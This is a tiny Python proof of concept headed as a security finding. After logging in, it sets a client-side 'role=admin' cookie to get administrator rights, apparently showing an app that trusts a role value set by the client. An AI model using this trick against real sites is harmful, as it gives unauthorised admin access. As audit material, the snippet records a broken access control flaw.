# finding: two-roles
import requests


def become_admin(url):
    client = requests.Session()
    client.post(url + "/login")
    client.cookies.set("role", "admin")
    return client
